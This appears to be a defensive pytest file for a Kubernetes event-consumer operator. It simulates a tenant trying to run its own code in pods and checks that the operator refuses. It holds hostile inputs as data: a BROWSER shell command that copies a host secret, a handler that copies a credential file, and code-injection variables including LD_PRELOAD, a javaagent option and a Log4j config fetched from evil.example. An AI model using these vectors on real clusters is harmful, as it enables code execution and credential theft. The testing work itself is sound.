"""A tenant whose only right is eventconsumer-editor, on a release with default settings: own code in our pods."""

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from eventconsumer_api.kube import labels
from eventconsumer_operator import plan
from eventconsumer_operator.plan import Plan
from eventconsumer_operator.settings import Settings
from tests.attackers.outcome import Gained, Outcome, Refused
from tests.attackers.tenantcode import HOST, SECRET, Host, container_of, planned
from tests.contract.operator.conftest import Cluster, start_cluster
from tests.support.appfolder import app_folder
from tests.support.expansion import expand
from tests.support.fakes.kubernetes import event_consumer
from tests.unit.operator.worlds import SPARK, SPEC, USER_IMAGE, spec_with

DEFAULTS = Settings(namespaces=("shop",), processor_image="host:1", spark_image="spark:1")
GRANTED = replace(DEFAULTS, handler_image_prefixes=(USER_IMAGE,), spark_image_prefixes=(USER_IMAGE,))
ANY_MODULE = f"""
import importlib
from eventconsumer_host.handler import loading
loading.find = lambda top, folder: None
loading._import = lambda spec, name, top, folder: importlib.import_module(name)
{HOST}
"""
"""The host as it was: a handler is any module that Python finds."""
SHOP = """
import os, shutil

class Shop:
    def __init__(self):
        shutil.copy(*os.environ["APP_FILES"].split())
        raise OSError("enough")

    def process_events(self, context, batch): pass
"""


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    """An API server with the CRD."""
    yield from start_cluster(tmp_path_factory.mktemp("tenant"))


@pytest.fixture
def unchecked(monkeypatch: pytest.MonkeyPatch) -> None:
    """The operator without its check of what user code gets."""
    monkeypatch.setattr(plan, "check_inputs", lambda path, inputs, settings: None)


def stored(cluster: Cluster, spec: dict[str, Any]) -> Outcome:
    """Whether the API server stores a spec."""
    message = cluster.apply(event_consumer("orders", spec, "default"), dry_run=True)
    return Refused(f"the API server: {message}") if message else Gained("a stored resource")


# --- a module of Python as a handler: `antigravity` starts the program in $BROWSER -----------------------------------


def antigravity(host: Host) -> dict[str, Any]:
    """Its program copies the credential of the host."""
    program = f'sh -c "cp {host.secret} {host.loot}" %s'
    return SPEC | {"processing": {"handler": "antigravity:Shop", "env": [{"name": "BROWSER", "value": program}]}}


def started(spec: dict[str, Any], host: Host, settings: Settings = DEFAULTS) -> Outcome:
    """What the operator plans, and what the host's process then does."""
    made = planned(spec, settings)
    return host.run(made) if isinstance(made, Plan) else made


def test_a_module_of_python_is_no_handler(cluster: Cluster, tmp_path: Path) -> None:
    spec = antigravity(Host(tmp_path))
    outcome = stored(cluster, spec)
    assert isinstance(outcome, Refused) and "processing.handler is for an image of your own: set" in outcome.control
    outcome = started(spec, Host(tmp_path))
    assert isinstance(outcome, Refused) and outcome.control.startswith("the operator: spec.processing.handler: ")


@pytest.mark.usefixtures("unchecked")
def test_the_host_alone_refuses_it_before_it_is_imported(tmp_path: Path) -> None:
    spec = antigravity(Host(tmp_path))
    outcome = started(spec, Host(tmp_path))
    assert isinstance(outcome, Refused) and "antigravity is a name of Python" in outcome.control
    assert started(spec, Host(tmp_path, ANY_MODULE)) == Gained(SECRET)


def test_a_handler_in_an_allowed_image_runs_with_its_variables(cluster: Cluster, tmp_path: Path) -> None:
    """The same attacker with the right: the code of an image that the administrator allows."""
    shop = tmp_path / "shop.py"
    shop.write_text(SHOP)
    host = Host(tmp_path, code=str(app_folder(tmp_path / "app", shop)))
    env = [{"name": "APP_FILES", "value": f"{host.secret} {host.loot}"}]
    spec = SPEC | {"processing": {"handler": "shop:Shop", "image": USER_IMAGE, "env": env}}
    assert stored(cluster, spec) == Gained("a stored resource")
    assert isinstance(started(spec, host, DEFAULTS), Refused)
    assert started(spec, host, GRANTED) == Gained(SECRET)


# --- variables that programs of a pod read ---------------------------------------------------------------------------

CODE = {
    "LOG4J_CONFIGURATION_FILE": "https://evil.example/log4j2.xml",
    "KUBECONFIG": "/tmp/kubeconfig",  # with an exec plugin
    "PYTHONSTARTUP": "/mnt/a/code.py",
    "LD_PRELOAD": "/mnt/a/code.so",
    "JDK_JAVA_OPTIONS": "-javaagent:/mnt/a/code.jar",
}


def given_to_spark(spec: dict[str, Any], name: str, settings: Settings) -> Outcome:
    """Whether a variable, or all keys of a ConfigMap with the beginning of its name, reach the Spark driver."""
    made = planned(spec, settings)
    if not isinstance(made, Plan):
        return made
    container = container_of(made, labels.COMPONENT_SPARK)
    found = [each["name"] for each in container["env"] if each["name"] == name]
    found += [each["prefix"] for each in container.get("envFrom", []) if name.startswith(each["prefix"])]
    return Gained(f"{found[0]} in the driver") if found else Refused("nothing: it is not there")


def with_variable(name: str, value: str, field: str, image: str | None) -> dict[str, Any]:
    prefix = "APP_" if name.startswith("APP_") else name[:3]
    item = {"name": name, "value": value} if field == "env" else {"prefix": prefix, "configMapRef": {"name": "mine"}}
    spec = spec_with(f"spark.application.{field}", [item], SPEC | SPARK)
    return spec_with("spark.application.image", image, spec) if image else spec


@pytest.mark.parametrize("field", ["env", "envFrom"])
@pytest.mark.parametrize("name", CODE)
def test_no_variable_that_a_program_of_the_driver_reads_is_given_to_it(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch, name: str, field: str
) -> None:
    spec = with_variable(name, CODE[name], field, None)
    outcome = stored(cluster, spec)
    assert isinstance(outcome, Refused) and f"spark.application.{field} is for an image of your own" in outcome.control
    assert isinstance(given_to_spark(spec, name, DEFAULTS), Refused)
    allowed = with_variable(name, CODE[name], field, USER_IMAGE)
    outcome = given_to_spark(allowed, name, GRANTED)
    assert isinstance(outcome, Refused) and "does not begin with an allowed prefix (APP_)" in outcome.control
    monkeypatch.setattr(plan, "check_inputs", lambda path, inputs, settings: None)
    for unchecked in (spec, allowed):
        assert isinstance(given_to_spark(unchecked, name, GRANTED), Gained)


def test_a_variable_with_the_prefix_of_applications_is_given_to_an_allowed_image(cluster: Cluster) -> None:
    for field in ("env", "envFrom"):
        spec = with_variable("APP_MODE", "strict", field, USER_IMAGE)
        assert stored(cluster, spec) == Gained("a stored resource")
        assert isinstance(given_to_spark(spec, "APP_MODE", DEFAULTS), Refused)
        assert isinstance(given_to_spark(spec, "APP_MODE", GRANTED), Gained)


# --- a reference to another variable in a value, which Kubernetes replaces -------------------------------------------


def read_by(text: str, made: Plan) -> Outcome:
    """The value of a variable that a host gets where the tenant wrote `text`."""
    for variable in container_of(made, labels.COMPONENT_HOST)["env"]:
        if variable["name"] == "APP_COPY":
            seen = expand(variable["value"], {"APP_SECRET": SECRET})
            return Refused(f"the operator: the value is exactly {seen}") if seen == text else Gained(seen)
    raise AssertionError("the variable is not there")


@pytest.mark.parametrize("text", ["$(APP_SECRET)", "$$(APP_SECRET)", "$$$(APP_SECRET)"])
def test_no_value_refers_to_another_variable(cluster: Cluster, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    env = [{"name": "APP_COPY", "value": text}]
    spec = SPEC | {"processing": {"handler": "shop:Shop", "image": USER_IMAGE, "env": env}}
    for outcome in (stored(cluster, spec), planned(spec, GRANTED)):
        assert isinstance(outcome, Refused) and "write the text itself" in outcome.control
    monkeypatch.setattr(plan, "check_inputs", lambda path, inputs, settings: None)
    made = planned(spec, GRANTED)
    assert isinstance(made, Plan) and isinstance(read_by(text, made), Refused)
    monkeypatch.setattr("eventconsumer_operator.resource.programs.inert", lambda value: value)
    made = planned(spec, GRANTED)
    assert isinstance(made, Plan) and isinstance(read_by(text, made), Gained)
